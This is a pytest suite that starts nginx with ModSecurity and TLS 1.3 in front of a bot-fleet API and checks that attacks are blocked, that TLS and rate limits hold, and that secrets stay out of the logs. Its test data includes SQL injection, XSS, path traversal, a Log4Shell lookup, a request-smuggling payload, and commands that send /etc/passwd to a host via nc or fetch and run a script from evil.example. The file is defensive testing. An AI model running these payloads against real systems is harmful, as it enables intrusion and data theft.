"""The public door, started for real: nginx with TLS 1.3 and the core rule set before our API."""

import json
import re
import shutil
import signal
import socket
import ssl
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import partial
from http import HTTPStatus
from pathlib import Path

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from botfleet.adapters.botfile import dump, read
from botfleet.adapters.system.ports import accepts, choose
from botfleet.bootstrap import Wiring
from tests.api.conftest import door, served, settings
from tests.api.door import Door
from tests.deploy.needs import need
from tests.patience import PATIENCE_S

__all__ = ["door", "served", "settings"]  # the API's own fixtures

ROOT = Path(__file__).parents[2]
MODULES = Path("/usr/lib/nginx/modules")
RULES = Path("/usr/share/modsecurity-crs/rules")
EXAMPLES = sorted(
    [*(ROOT / "examples").glob("*.yaml"), *(ROOT / "botfleet/cli/demo_bots").glob("*.yaml")]
)
ATTACKS = {
    "sql in a query": ("GET", "/v1/runs?state=1'%20UNION%20SELECT%20token_hash%20FROM%20users--"),
    "script in a query": ("GET", "/v1/bots?q=<script>alert(document.cookie)</script>"),
    "a path outside": ("GET", "/v1/bots/..%2f..%2f..%2fetc%2fpasswd"),
    "a command": ("GET", "/v1/bots?name=;cat%20/etc/passwd|nc%2010.0.0.1%2080"),
    "a lookup": ("GET", "/v1/bots?x=${jndi:ldap://10.0.0.1/a}"),
    "a forbidden method": ("TRACE", "/v1/bots"),
}
BODIES = {
    "sql in json": {"name": "x' OR '1'='1' UNION SELECT password FROM users; DROP TABLE bots;--"},
    "script in json": {"name": "<script>document.location='http://evil.example/'</script>"},
    "a command in json": {"name": "$(curl http://evil.example/x.sh | sh)"},
}


@dataclass
class Front:
    """nginx at `port`, in front of the API behind `door`."""

    door: Door
    port: int
    certificate: Path
    home: Path
    process: "subprocess.Popen[bytes]"

    def log(self, name: str) -> str:
        """What nginx wrote until its end, which comes now."""
        self.process.send_signal(signal.SIGQUIT)
        self.process.wait()
        path = self.home / name
        return path.read_text() if path.exists() else ""

    def client(self) -> httpx.Client:
        context = ssl.create_default_context(cafile=str(self.certificate))
        return httpx.Client(
            base_url=f"https://localhost:{self.port}",
            verify=context,
            headers={"Authorization": f"Bearer {self.door.tokens['ann']}"},
            timeout=PATIENCE_S,
        )


@pytest.fixture
def front(door: Door, served: tuple[Wiring, str], tmp_path: Path) -> Iterator[Front]:
    with fronting(door, tmp_path, served[1].removeprefix("http://")) as front:
        yield front


@contextmanager
def fronting(door: Door, tmp_path: Path, *upstreams: str) -> Iterator[Front]:
    """Put nginx, as it is shipped, before API processes at these addresses."""
    (program,) = need("nginx")
    if not (RULES.exists() and (MODULES / "ngx_http_modsecurity_module.so").exists()):
        pytest.skip("the core rule set (modsecurity-crs, libnginx-mod-http-modsecurity) is missing")
    port, home = choose([0], near="nginx")[0], tmp_path / "nginx"
    certificate = lay_out(home, port, *upstreams)
    command = [program, "-p", f"{home}/", "-c", "nginx.conf", "-g", "daemon off;"]
    with (home / "stderr").open("wb") as errors:
        process = subprocess.Popen(command, stderr=errors, cwd=home)
    try:
        while not accepts(port):
            assert process.poll() is None, (home / "stderr").read_text()
        yield Front(door, port, certificate, home, process)
    finally:
        process.terminate()
        process.wait()


def lay_out(home: Path, port: int, *upstreams: str) -> Path:
    """Put the shipped files and those that differ from place to place; give the certificate."""
    shutil.copytree(ROOT / "deploy/nginx", home)
    (home / "temp").mkdir()
    loads = (f"load_module {MODULES / name};\n" for name in ("ndk_http_module.so", WAF_MODULE))
    (home / "modules.conf").write_text("".join(loads) + "user root;\n")
    (home / "listen.conf").write_text(f"listen 127.0.0.1:{port} ssl http2;\n")
    servers = "".join(f"server {one};\n" for one in upstreams)
    (home / "upstream.conf").write_text(servers)
    return certify(home / "tls")


DESK = ROOT / "botfleet/web/desk"
WAF_MODULE = "ngx_http_modsecurity_module.so"


def certify(home: Path) -> Path:
    """Make a key, and a certificate of localhost signed by itself."""
    home.mkdir()
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    secret = key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    (home / "key.pem").write_bytes(secret)
    (home / "certificate.pem").write_bytes(certificate.public_bytes(pem))
    return home / "certificate.pem"


@pytest.mark.parametrize("kind", ["yaml", "json"])
def test_every_bot_file_passes(front: Front, kind: str) -> None:
    with front.client() as client:
        for path in EXAMPLES:
            text = path.read_text()
            answer = client.post(
                "/v1/bots",
                content=text if kind == "yaml" else dump(read(text)),
                headers={"Content-Type": f"application/{kind}", "Idempotency-Key": path.stem},
            )
            assert answer.status_code == 200, (path.name, answer.text)


def test_attacks_do_not_pass_and_nothing_is_stored(front: Front) -> None:
    state = front.door.state()
    for name, (method, path_) in ATTACKS.items():
        with front.client() as client:
            assert client.request(method, path_).status_code in {400, 403, 405}, name
    for name, body in BODIES.items():
        with front.client() as client:
            answer = client.post("/v1/bots", json=body, headers={"Idempotency-Key": "k"})
            assert answer.status_code == 403, name
    with front.client() as client:
        answer = client.post(
            "/v1/bots",
            content=b'name: "x\' UNION SELECT password FROM users--"\n',
            headers={"Content-Type": "application/yaml", "Idempotency-Key": "k"},
        )
        assert answer.status_code == 422  # the firewall cannot read YAML; the API can
    assert front.door.state() == state
    tell(front)


def tell(front: Front) -> None:
    """Show what the door wrote of it: `pytest -rP tests/deploy/test_nginx.py`."""
    lines = [json.loads(line) for line in front.log("access.log").splitlines()]
    for one in lines:
        print(f"{one['status']} {one['method']} {one['path']} {one['id']}")  # noqa: T201
    audited = front.log("audit.log")
    assert {one["id"] for one in lines if one["status"] == HTTPStatus.FORBIDDEN} <= {
        *re.findall(r'unique_id "([0-9a-f]{32})"', audited)
    }, "every refusal says by which rule"
    for rule in sorted({*re.findall(r"id \"(\d+)\"\].*?\[msg \"([^\"]+)\"\]", audited)}):
        print(*rule)  # noqa: T201


def test_only_tls_1_3_is_spoken_and_the_browser_is_told_to_stay(front: Front) -> None:
    with front.client() as client:
        answer = client.get("/v1/bots")
    assert answer.status_code == 200
    assert answer.headers["strict-transport-security"].startswith("max-age=63072000")
    assert "server" not in answer.headers or "/" not in answer.headers["server"]
    old = ssl.create_default_context(cafile=str(front.certificate))
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    with (
        socket.create_connection(("127.0.0.1", front.port)) as plain,
        pytest.raises(ssl.SSLError),
    ):
        old.wrap_socket(plain, server_hostname="localhost")


def test_the_desk_stands_behind_the_door(front: Front) -> None:
    with front.client() as browser:
        del browser.headers["Authorization"]
        assert browser.get("/").headers["location"] == "/signin"
        signed_in = browser.post("/signin", data={"token": front.door.tokens["ann"]})
        assert signed_in.status_code == 303
        assert browser.get("/").status_code == 200
        parts = [part.name for part in DESK.iterdir() if part.suffix in {".js", ".css", ".svg"}]
        assert len(parts) > 10
        for name in parts:
            assert browser.get(f"/desk/{name}").status_code == 200, name
        draft = dump(read(EXAMPLES[0].read_text()))
        kind = {"Content-Type": "application/json"}
        assert browser.post("/v1/drafts/drawing", content=draft, headers=kind).status_code == 200


def test_what_is_too_large_or_twofold_is_turned_away(front: Front) -> None:
    with front.client() as client:
        key = {"Idempotency-Key": "k", "Content-Type": "application/json"}
        large = client.post("/v1/bots", content=b" " * 70_000, headers=key)
        assert large.status_code == 413
        assert client.get("/readyz").status_code == 404
        assert client.get("/healthz").status_code == 200
    context = ssl.create_default_context(cafile=str(front.certificate))
    smuggled = (
        b"POST /v1/bots HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nX"
    )
    with (
        socket.create_connection(("127.0.0.1", front.port)) as plain,
        context.wrap_socket(plain, server_hostname="localhost") as door,
    ):
        door.sendall(smuggled)
        assert door.recv(64).startswith(b"HTTP/1.1 400")


def test_who_asks_too_often_is_told_to_wait_and_no_token_is_written_down(front: Front) -> None:
    with front.client() as client, ThreadPoolExecutor(16) as at_once:
        ask = partial(client.get, "/v1/connections", params={"code": "canary-code"})
        codes = [one.result().status_code for one in [at_once.submit(ask) for _ in range(60)]]
    assert 429 in codes
    lines = front.log("access.log").splitlines()
    assert sorted(json.loads(line)["status"] for line in lines) == sorted(codes)
    logs = "".join(front.log(name) for name in ("access.log", "audit.log", "stderr"))
    for secret in (*front.door.tokens.values(), "canary-code"):
        assert secret not in logs
